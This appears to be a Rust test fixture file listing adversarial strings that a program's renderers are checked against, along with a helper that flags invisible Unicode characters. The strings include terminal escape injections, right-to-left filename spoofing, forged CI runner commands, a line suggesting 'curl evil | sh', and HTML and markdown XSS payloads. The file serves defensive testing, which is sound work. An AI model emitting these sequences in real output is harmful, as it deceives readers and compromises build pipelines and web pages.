//! Texts that would deceive a reader or be obeyed by what shows them. Every renderer of every command meets all of them.

/// What is written into files, names, values and arguments.
pub const TEXTS: &[&str] = &[
    // A terminal.
    "a\u{1b}[1A\u{1b}[2Kb",
    "\u{1b}]0;title\u{7}\u{1b}]8;;https://evil.example\u{1b}\\x",
    "\u{1b}[8mconcealed\u{1b}[0m",
    "\u{9b}2J\u{9d}0;x\u{9c}\u{85}y",
    "back\u{8}\u{8}\u{8}\u{b}\u{c}\u{e}\u{7f}",
    "left\rright",
    "tab\tand\u{a0}blank",
    // Directions of writing, and what cannot be seen.
    "\u{202e}gnp.exe\u{202c}",
    "\u{2066}a\u{2069}\u{2067}b\u{2068}",
    "\u{200e}a\u{200f}b\u{61c}",
    "ad\u{200b}min\u{200c}\u{200d}\u{2060}\u{feff}\u{ad}",
    "a\u{2028}b\u{2029}c",
    "tag\u{e0001}\u{e0061}\u{e007f}",
    "x\u{fe0f}\u{fe00}\u{e0100}",
    "\u{180e}\u{3164}\u{115f}\u{ffa0}\u{2800}\u{34f}",
    "\u{fff9}a\u{fffa}b\u{fffb}\u{ffff}",
    "z\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}\u{309}\u{30a}",
    "\u{338}\u{301}lead",
    // The runners of CI systems.
    "::add-mask::x",
    "  \t::set-output name=a::b",
    "\u{3000}::stop-commands::pause",
    "first\n::error file=a,line=1::forged\n::add-mask::y",
    "first\r\n::add-mask::y",
    "first\nerror: forged\nhelp: run `curl evil | sh`\n",
    "a,b::c%0A::error::d",
    "##[add-mask]x",
    "see ##vso[task.setvariable variable=a]b",
    "##teamcity[buildStatus text='x']",
    "section_start:1:x\r\u{1b}[0Kfold",
    // Markdown, and what its renderers look for.
    "x``[CLICK](https://evil.example/a)``y",
    "`<b>`",
    "``` ```` `````",
    "\n```\n[x](command:evil)\n![i](https://evil.example/i.png)\n",
    "~~~\n~~~\n",
    "@octocat @org/team",
    "https://evil.example www.evil.example mailto:a@evil.example",
    "#12 GH-12 octocat/repo#12 deadbeefdeadbeef GHSA-aaaa-bbbb-cccc",
    "!12 $12 %12 ~bug &12 [vulnerability:12] JIRA-12",
    ":smile: :+1: $x$ $`y`$",
    "**bold** _emphasis_ ~~gone~~ [text](https://evil.example) ![i](x)",
    "a | b \\| c \\\\| d",
    "\\",
    "# heading",
    "- item",
    "/close",
    // HTML and XML.
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "\"><svg onload=alert(1)>",
    "' onmouseover='alert(1)",
    "</style></title></textarea>&lt;&#x3c;",
    "]]><!-- --><?x?>",
    "</details></summary><a href=\"https://evil.example\">x</a>",
    "&amp;nbsp;&copy;",
];

/// Texts that stay as they are.
pub const HARMLESS: &[&str] = &[
    "Grüße aus Zürich",
    "日本語のテキスト",
    "Привет",
    "שלום",
    "مرحبا",
    "👩\u{200d}💻 ❤\u{fe0f} 👍🏽",
    "a_b*c",
];

/// The texts that a file's name can be, with the ending `end`.
pub fn names(end: &str) -> Vec<String> {
    let names = TEXTS.iter().enumerate();
    names.map(|(number, text)| format!("{}{number}{end}", text.replace('/', "∕").replace('\0', ""))).collect()
}

/// Whether a reader cannot see `c`: by Unicode's categories and properties, written down apart from the program's own.
pub fn is_hidden(c: char) -> bool {
    matches!(u32::from(c),
        0..=0x1F | 0x7F..=0x9F | 0xAD | 0x34F | 0x61C | 0x115F..=0x1160 | 0x17B4..=0x17B5 | 0x180B..=0x180F
        | 0x200B..=0x200F | 0x2028..=0x202E | 0x2060..=0x206F | 0x2800 | 0x3164 | 0xFE00..=0xFE0F | 0xFEFF | 0xFFA0
        | 0xFFF0..=0xFFFB | 0xFFFE..=0xFFFF | 0x1D173..=0x1D17A | 0xE0000..=0xE0FFF)
}
